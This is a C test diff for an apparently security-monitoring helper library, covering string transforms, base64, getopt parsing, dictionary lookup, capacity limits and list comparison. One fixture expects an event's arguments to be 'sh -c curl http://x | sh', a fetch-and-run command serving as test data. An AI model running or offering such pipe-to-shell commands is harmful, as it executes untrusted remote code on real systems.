@@ -149,6 +149,270 @@ TEST(a_handle_of_another_kind_is_bad_for_every_helper)
 	}
 }
 
+/* ---- computed values ---- */
+
+static struct helper_tmp tmp;
+
+static uint64_t call_tmp(uint32_t id, uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4)
+{
+	struct helper_env env = env_new();
+	uint64_t args[ABI_MAX_ARGS] = { a1, a2, a3, a4 };
+
+	env.tmp = &tmp;
+	return helper_lookup(id)(&env, args);
+}
+
+static void push_text(const char *s, bool forget)
+{
+	call_tmp(ABI_HELPER_tmp_text, (uintptr_t)s, strlen(s), forget, 0);
+}
+
+/* The topmost value is this text, or with NULL there is none. */
+static void expect_top(const char *want)
+{
+	struct helper_env env = env_new();
+	uint64_t h = call_tmp(ABI_HELPER_tmp_get, 0, 0, 0, 0);
+
+	if (!want) {
+		CHECK_EQ(h, 0);
+		return;
+	}
+	CHECK(h != 0);
+	env.tmp = &tmp;
+	CHECK_EQ(helper_lookup(ABI_HELPER_str_eq)(&env, (uint64_t[ABI_MAX_ARGS]){ h, (uintptr_t)want, strlen(want) }),
+		 1);
+}
+
+static void expect_list(const char *const *want, uint32_t n)
+{
+	struct helper_env env = env_new();
+	uint64_t h = call_tmp(ABI_HELPER_tmp_get, 0, 0, 0, 0);
+
+	CHECK(h != 0);
+	env.tmp = &tmp;
+	CHECK_EQ(helper_lookup(ABI_HELPER_list_len)(&env, (uint64_t[ABI_MAX_ARGS]){ h }), n);
+	for (uint32_t i = 0; i < n; i++) {
+		uint64_t e = helper_lookup(ABI_HELPER_list_get)(&env, (uint64_t[ABI_MAX_ARGS]){ h, i });
+
+		CHECK_EQ(helper_lookup(ABI_HELPER_str_eq)(
+				 &env, (uint64_t[ABI_MAX_ARGS]){ e, (uintptr_t)want[i], strlen(want[i]) }),
+			 1);
+	}
+}
+
+TEST(texts_are_transformed_one_by_one)
+{
+	static const struct {
+		enum helper_tmp_op op;
+		const char *in, *out;
+	} rows[] = {
+		{ HELPER_TMP_LOWER, "AbC\xc4-9", "abc\xc4-9" },
+		{ HELPER_TMP_UPPER, "aBz{", "ABZ{" },
+		{ HELPER_TMP_BASENAME, "/a/b", "b" },
+		{ HELPER_TMP_BASENAME, "/a/", "" },
+		{ HELPER_TMP_BASENAME, "a", "a" },
+		{ HELPER_TMP_B64, "", "" },
+		{ HELPER_TMP_B64, "YQ==", "a" },
+		{ HELPER_TMP_B64, "YQ", "a" },
+		{ HELPER_TMP_B64, "YWI=", "ab" },
+		{ HELPER_TMP_B64, "YWJj", "abc" },
+		{ HELPER_TMP_B64, "YR==", NULL }, /* bits of no byte */
+		{ HELPER_TMP_B64, "Y", NULL },
+		{ HELPER_TMP_B64, "YQ===", NULL },
+		{ HELPER_TMP_B64, "Y Q=", NULL },
+	};
+
+	for (size_t i = 0; i < countof(rows); i++) {
+		test_row = rows[i].in;
+		push_text(rows[i].in, true);
+		CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, rows[i].op, 1, 0, 0), rows[i].out != NULL);
+		expect_top(rows[i].out);
+	}
+}
+
+TEST(several_values_become_one)
+{
+	push_text("a", true);
+	push_text("", false);
+	push_text("bc", false);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_CONCAT, 3, 0, 0), 1);
+	expect_top("abc");
+	push_text(", ", true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_push, ARGS, 0, 0, 0), 1);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_JOIN, 2, 0, 0), 1);
+	expect_top("sh, -c, curl http://x | sh, ");
+	push_text("x", true);
+	push_text("y", false);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, 2, 0, 0), 1);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_UPPER, 1, 0, 0), 1);
+	expect_list((const char *const[]){ "X", "Y" }, 2);
+	push_text("", true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, 0, 0, 0), 1);
+	expect_list(NULL, 0);
+}
+
+/* args and options are separated by a space; * for the empty argument. */
+TEST(options_are_read_as_getopt_reads_them)
+{
+	static const struct {
+		const char *args, *options;
+		char option;
+		const char *want; /* a text, or the list's elements; NULL: no value */
+	} rows[] = {
+		{ "-a -b v x", "ab:", 0, "a b v" }, { "-abv", "ab:", 0, "a b v" },  { "-ab v", "ab:", 0, "a b v" },
+		{ "-ab v", "ab:", 'b', "v" },       { "-ab v", "ab:", 'a', "a" },   { "-a -a", "a", 'a', "a" },
+		{ "-b x -b y", "b:", 'b', "y" },    { "-b", "b:", 'b', "*" },       { "-b", "b:", 0, "*" },
+		{ "-x -a", "a", 0, "? a" },         { "-x -a", "a", 'x', NULL },    { "-a", "ab", 'b', NULL },
+		{ "x -a", "a", 'a', NULL },         { "-- -a", "a", 'a', NULL },    { "- -a", "a", 'a', NULL },
+		{ "* -a", "a", 'a', NULL },         { "--long -a", "a", 'a', "a" }, { "-b -a", "ab:", 'a', NULL },
+		{ "-b -- -a", "ab:", 'a', "a" },    { "-: -a", ":a", 0, "? a" },    { "-b *", "b:", 'b', "*" },
+	};
+
+	for (size_t i = 0; i < countof(rows); i++) {
+		char args[64], want[64], *at, *word;
+		const char *list[8];
+		uint32_t n = 0;
+
+		test_row = rows[i].args;
+		(void)snprintf(args, sizeof args, "%s", rows[i].args);
+		push_text("", true);
+		for (at = args; (word = strsep(&at, " ")) != NULL; n++)
+			push_text(*word == '*' ? "" : word, false);
+		CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, n, 0, 0), 1);
+		push_text(rows[i].options, false);
+		CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_GETOPT, (uint64_t)rows[i].option, 0, 0),
+			 rows[i].want != NULL);
+		if (!rows[i].want || rows[i].option) {
+			expect_top(rows[i].want && *rows[i].want == '*' ? "" : rows[i].want);
+			continue;
+		}
+		(void)snprintf(want, sizeof want, "%s", rows[i].want);
+		for (at = want, n = 0; (word = strsep(&at, " ")) != NULL; n++)
+			list[n] = *word == '*' ? "" : word;
+		expect_list(list, n);
+	}
+}
+
+TEST(what_has_no_value_or_no_room_ends_without_a_value_until_the_next_comparison)
+{
+	static char big[HELPER_TMP_BYTES + 1];
+
+	memset(big, 'x', sizeof big - 1);
+	/* nothing to work on, and the wrong kinds */
+	push_text("a", true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_JOIN, 2, 0, 0), 0);
+	push_text("b", false);
+	expect_top(NULL);
+	push_text("b", true);
+	expect_top("b");
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_CONCAT, 2, 0, 0), 0);
+	push_text("b", true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_CONCAT, UINT64_MAX, 0, 0), 0);
+	push_text("b", true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LIST, 2, 0, 0), 0);
+	push_text("b", true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_OPS, 0, 0, 0), 0);
+	expect_top(NULL);
+	/* the room's end, exactly */
+	push_text(big, true);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_UPPER, 1, 0, 0), 1);
+	push_text("x", false);
+	CHECK_EQ(call_tmp(ABI_HELPER_tmp_apply, HELPER_TMP_LOWER, 1, 0, 0), 0);
+	expect_top(NULL);
+	push_text("x", true);
+	for (unsigned i = 1; i < HELPER_TMP_VALUES; i++)
+		push_text("x", false);
+	expect_top("x");
+	push_text("x", false);
+	expect_top(NULL);
+	/* without room at all */
+	CHECK_EQ(ask(ABI_HELPER_tmp_get, 0, 0, NULL, 0, 0), 0);
+	CHECK_EQ(ask(ABI_HELPER_tmp_push, SHADOW, 1, NULL, 0, 0), 0);
+	CHECK_EQ(ask(ABI_HELPER_tmp_apply, HELPER_TMP_UPPER, 1, NULL, 0, 0), 0);
+}
+
+TEST(a_handle_above_the_stack_is_bad)
+{
+	struct helper_env env = env_new();
+
+	push_text("x", true);
+	env.tmp = &tmp;
+	CHECK_EQ(helper_lookup(ABI_HELPER_str_len)(&env, (uint64_t[ABI_MAX_ARGS]){ N_VALUES_PLUS_1 }), 1);
+	CHECK(!env.bad_handle);
+	CHECK_EQ(helper_lookup(ABI_HELPER_str_len)(&env, (uint64_t[ABI_MAX_ARGS]){ N_VALUES_PLUS_1 + 1 }), 0);
+	CHECK(env.bad_handle);
+	env.bad_handle = false;
+	CHECK_EQ(helper_lookup(ABI_HELPER_tmp_push)(&env, (uint64_t[ABI_MAX_ARGS]){ IP4 }), 0);
+	CHECK(env.bad_handle);
+}
+
+TEST(dictionaries_are_read_by_key_and_by_place)
+{
+	static const struct helper_str pairs[] = { S("HOME=/root"), S("PATH=a=b"), S("BARE"), S("HOST=x") };
+	static const struct helper_value dict[] = { { .kind = HELPER_VALUE_LIST, .len = 4, .list = pairs } };
+	static const struct {
+		const char *key, *want;
+	} rows[] = { { "HOME", "/root" }, { "HO*", "/root" }, { "HOST", "x" }, { "PATH", "a=b" },
+		     { "BARE", "" },      { "home", NULL },   { "", NULL },    { "HOME=", NULL } };
+
+	for (size_t i = 0; i < countof(rows); i++) {
+		struct helper_env env = { .values = dict, .n_values = 1, .tmp = &tmp };
+		uint64_t args[ABI_MAX_ARGS] = { 1, (uintptr_t)rows[i].key, strlen(rows[i].key), 1 }, h;
+
+		test_row = rows[i].key;
+		h = helper_lookup(ABI_HELPER_dict_key)(&env, args);
+		CHECK_EQ(h != 0, rows[i].want != NULL);
+		if (h)
+			CHECK_EQ(helper_lookup(ABI_HELPER_str_eq)(
+					 &env,
+					 (uint64_t[ABI_MAX_ARGS]){ h, (uintptr_t)rows[i].want, strlen(rows[i].want) }),
+				 1);
+	}
+	for (uint64_t i = 0; i < 5; i++) {
+		struct helper_env env = { .values = dict, .n_values = 1, .tmp = &tmp };
+
+		CHECK_EQ(helper_lookup(ABI_HELPER_dict_at)(&env, (uint64_t[ABI_MAX_ARGS]){ 1, i, 1 }) != 0, i < 4);
+	}
+}
+
+TEST(two_handles_are_compared_and_whole_lists_too)
+{
+	static const struct helper_str a[] = { S("x"), S("y"), S("x") }, b[] = { S("y"), S("x"), S("z") };
+	static const struct helper_value v[] = { { .kind = HELPER_VALUE_LIST, .len = 3, .list = a },
+						 { .kind = HELPER_VALUE_LIST, .len = 3, .list = b },
+						 { .kind = HELPER_VALUE_LIST },
+						 { .kind = HELPER_VALUE_STR, .len = 3, .p = "abc" },
+						 { .kind = HELPER_VALUE_STR, .len = 2, .p = "bc" },
+						 { .kind = HELPER_VALUE_STR, .len = 2, .p = "*c" } };
+	static char big[HELPER_SLOW_OPERAND_BYTES + 1];
+	struct helper_value slow = { .kind = HELPER_VALUE_STR, .len = sizeof big, .p = memset(big, '*', sizeof big) };
+	struct helper_env env = { .values = v, .n_values = countof(v) };
+
+#define ASK(id, ...) helper_lookup(ABI_HELPER_##id)(&env, (uint64_t[ABI_MAX_ARGS]){ __VA_ARGS__ })
+	CHECK_EQ(ASK(list_in_list, 1, 2, 1), 1);
+	CHECK_EQ(ASK(list_in_list, 2, 1, 1), 0);
+	CHECK_EQ(ASK(list_in_list, 2, 1, 0), 1);
+	CHECK_EQ(ASK(list_in_list, 3, 1, 0), 0);
+	CHECK_EQ(ASK(list_in_list, 3, 1, 1), 0);
+	CHECK_EQ(ASK(list_in_list, 1, 3, 0), 0);
+	CHECK_EQ(ASK(list_all, 1, ABI_HELPER_str_eq, (uintptr_t) "x", 1, 0), 0);
+	CHECK_EQ(ASK(list_all, 1, ABI_HELPER_str_eq, (uintptr_t) "x", 1, 2), 1);
+	CHECK_EQ(ASK(list_all, 1, ABI_HELPER_str_eq, (uintptr_t) "x", 1, 3), 0);
+	CHECK_EQ(ASK(list_all, 3, ABI_HELPER_str_contains, (uintptr_t) "", 0, 0), 0);
+	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_endswith, 5), 1);
+	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_glob, 6), 1);
+	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_eq, 5), 0);
+	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_in, 5), 0); /* what is packed is never an event's */
+	CHECK_EQ(ASK(str_test2, 4, ABI_HELPER_str_regex, 6), 0);
+	CHECK_EQ((int64_t)ASK(str_cmp2, 4, 5), -1);
+	CHECK_EQ(ASK(str_cmp2, 5, 5), 0);
+	CHECK(!env.bad_handle);
+	env = (struct helper_env){ .values = &slow, .n_values = 1 };
+	CHECK_EQ(ASK(str_test2, 1, ABI_HELPER_str_glob, 1), 0); /* too long for a pattern that an event brings */
+	CHECK_EQ(ASK(str_test2, 1, ABI_HELPER_str_eq, 1), 1);
+#undef ASK
+}
+
 TEST(map_helpers_give_what_linux_gives)
 {
 	struct prog_map hash = { .name = "h", .kind = PROG_MAP_HASH, .key_size = 4, .value_size = 4, .max_entries = 1 },
